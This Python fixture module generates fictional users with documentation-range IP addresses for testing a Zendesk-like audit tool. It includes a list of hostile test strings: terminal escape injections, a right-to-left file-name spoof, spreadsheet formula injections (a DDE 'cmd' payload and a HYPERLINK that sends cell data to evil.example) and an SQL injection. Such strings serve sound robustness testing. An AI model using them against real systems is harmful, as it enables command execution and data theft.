"""The people of an imagined account, and the text that hostile ones leave.

In: a seeded source of randomness. Out: `Person` values with addresses of the
documentation ranges, so that no real address or person is ever shown.
"""

from dataclasses import dataclass
from random import Random

SYSTEM_ID = -1
SYSTEM_NAME = "Zendesk"
"""How the service names itself as an actor."""

NAMES = (
    "Ada Example",
    "Bob Cat",
    "Chloé Dubois",
    "Daniel O'Neill",
    "Ewa Wójcik",
    "Fatima Al-Sayed",
    "Grace Hopwood",
    "Håkon Lindqvist",
    "Irina Петрова",
    "Jürgen Groß",
    "Kwame Mensah",
    "Lucía Fernández",
    "Mountain Lion",
    "Nguyễn Thị Hoa",
    "Oluwaseun Adébáyò",
    "Priya Raghavan",
    "Quentin Lefèvre",
    "Rosa Martins",
    "Søren Kjær",
    "Tomáš Dvořák",
    "Ülkü Yılmaz",  # noqa: RUF001 - a Turkish letter, meant
    "Viktor Šimić",
    "Wen Zhang",
    "Ximena Núñez",
    "Yannis Παπαδόπουλος",
    "Zsófia Szabó",
    "山田 太郎",
    "李 小龙",
    "김민준",
    "Анна Кузнецова",
    "محمد حسن",
    "דוד לוי",
    "อนันต์ สุขใจ",
    "प्रिया शर्मा",
    "Γιώργος Νικολάου",
    "Jane Doe",
    "John Doe",
    "Marc-André Côté",
    "Siobhán Ní Bhriain",
    "van der Berg, Anneke",
)

HOSTILE_TEXTS = (
    "\x1b[2J\x1b[1;1H\x1b[31mroot#",
    "\x1b]8;;https://evil.example/\x07click\x1b]8;;\x07",
    "\x1b]0;owned\x07",
    "\x9b31mred",
    "invoice\u202efdp.exe",
    "\u2066hidden\u2069 \u200bzero\u200bwidth",
    "\U000e0041\U000e0042 tag characters",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\uff1d1+1",
    "\t=1+1",
    "first line\nsecond line",
    "first\r\nsecond\rthird",
    'say "hi", they\'re; here\\there',
    "a|b ‖ `c` *d* _e_ <b>f</b> &amp;",
    "NUL\x00inside",
    "bell\x07 and backspace\x08\x08\x08",
    "lone surrogate \ud800 inside",
    "' or 1=1 -- \"",
    "💥👩‍👩‍👧‍👦 e\u0301\u0301\u0301 ﷽",
    "1e5",
    "",
    " leading and trailing ",
    "long " + "x" * 500,
)
"""Text that breaks terminals, spreadsheets and careless parsers."""


@dataclass(frozen=True, slots=True)
class Person:
    """Someone who acts.

    Attributes:
        id: the user's id.
        name: as shown in `actor_name`.
        addresses: addresses used, the usual one first; never empty.
        ipv6: the same for IPv6, in several spellings.
    """

    id: int
    name: str
    addresses: tuple[str, ...]
    ipv6: tuple[str, ...]


def people(random: Random) -> tuple[Person, ...]:
    """The cast of an account, busiest first."""
    names = list(NAMES)
    random.shuffle(names)
    first_id = random.randrange(360_000_000_000, 420_000_000_000)
    found = []
    for number, name in enumerate(names):
        first_id += random.randrange(1_000, 90_000_000)
        found.append(Person(first_id, name, _ipv4(random, number), _ipv6(random)))
    return tuple(found)


def _ipv4(random: Random, number: int) -> tuple[str, ...]:
    """The office's address for most, then a home and a phone."""
    office = f"203.0.113.{1 + number % 3}"
    home = f"198.51.100.{random.randrange(1, 255)}"
    phone = f"192.0.2.{random.randrange(1, 255)}"
    return (home, phone, office) if number % 4 == 3 else (office, home, phone)


def _ipv6(random: Random) -> tuple[str, ...]:
    """One address as several programs would spell it, and a mapped one."""
    net, host = random.randrange(1, 0x10000), random.randrange(1, 0x10000)
    return (
        f"2001:db8:{net:x}::{host:x}",
        f"2001:DB8:{net:X}::{host:X}",
        f"2001:0db8:{net:04x}:0000:0000:0000:0000:{host:04x}",
        f"2001:db8:{net:x}:0:0:0:0:{host:x}",
        f"::ffff:198.51.100.{host % 254 + 1}",
    )
